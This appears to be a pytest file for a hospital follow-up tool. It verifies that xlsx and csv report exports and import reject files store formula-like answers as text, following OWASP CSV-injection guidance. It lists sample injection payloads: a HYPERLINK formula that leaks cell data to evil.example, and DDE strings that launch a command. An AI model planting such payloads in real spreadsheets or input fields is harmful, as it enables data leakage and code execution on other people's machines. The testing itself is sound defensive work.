"""Text written out that must never run as a formula (G19 reports, G4 answers, G1 import rejects),
on SQLite and PostgreSQL.

The attack: a subject's answer `=HYPERLINK("http://evil.example/?"&A1,"详情")` (or one starting with
+ - @) was written into `report opinions --format xlsx` as a live formula and into csv as is; the
supervisor who opened the report ran it. Now such cells are text (OWASP CSV injection): xlsx cells
are typed as strings with Excel's quote-prefix flag, the value unchanged; csv cells and the import's
rejects file get an apostrophe in front.
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.audit_kit import DISCHARGE
from tests.conftest import Huifang

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
LATER = "2026-10-09T09:00+08:00"


@pytest.fixture
def answered(hf: Huifang) -> Huifang:
    hf.ok("staff", "add", "hn", "--name", "护士长", "--role", "supervisor", "--dept", "cardiology")
    hf.ok("staff", "add", "n1", "--name", "王护士", "--role", "agent", "--dept", "cardiology", "--reports-to", "hn")
    for i, text in enumerate(EVIL, start=1):
        hf.ok("subject", "add", f"P{i}", "--name", f"患者{i}")
        hf.ok("trigger", "discharge", "--subject", f"P{i}", "--id", f"D{i}", *DISCHARGE)
        hf.ok("attempt", f"D{i}-1", "--channel", "phone", "--outcome", "reached", actor="n1",
              now=f"2026-10-08T10:{10 + i}+08:00")
        hf.ok("complete", f"D{i}-1", "--answer", "recovery=8", "--answer", "satisfaction=满意", "--answer",
              f"suggestion={text}", actor="n1", now=f"2026-10-08T10:{20 + i}+08:00")
    return hf


def test_g19_formula_answers_are_text_in_xlsx_and_csv(answered: Huifang, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    rows = answered.ok("report", "opinions", actor="hn", now=LATER)["rows"]
    assert sorted(r["text"] for r in rows) == sorted(EVIL)  # json: the words as they were
    out = tmp_path / "opinions.xlsx"
    answered.ok("report", "opinions", "--format", "xlsx", "--codes", "--out", str(out), actor="hn", now=LATER)
    ws = load_workbook(out).worksheets[0]  # the real file, as Excel would open it
    header = [c.value for c in ws[1]]
    col = header.index("text") + 1
    cells = [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]
    assert sorted(c.value for c in cells) == sorted(EVIL)  # the value unchanged ...
    for c in cells:
        assert c.data_type == "s" and c.quotePrefix, (c.value, c.data_type)  # ... but text, never a formula
    data = answered("report", "opinions", "--format", "csv", actor="hn", now=LATER, json_out=False)
    assert data.code == 0, data.err
    texts = [r["text"] for r in csv.DictReader(io.StringIO(data.out))]
    assert sorted(texts) == sorted("'" + t for t in EVIL)


def test_g1_rejects_file_cells_are_text(hf: Huifang, tmp_path: Path) -> None:
    hf.now = "2026-10-20T10:00+08:00"
    f = tmp_path / "p.csv"
    f.write_text('id,name,phone\nP1,张三,13800138000\nP2,"=HYPERLINK(""http://evil.example"")",call me\n',
                 encoding="utf-8")
    ok = hf.ok("subject", "import", str(f), "--skip-bad")
    with open(ok["reject_file"], encoding="utf-8-sig", newline="") as fh:
        rejects = list(csv.reader(fh))
    assert rejects[1][:2] == ["3", "phone"]
    assert rejects[1][4] == "'=HYPERLINK(\"http://evil.example\")"
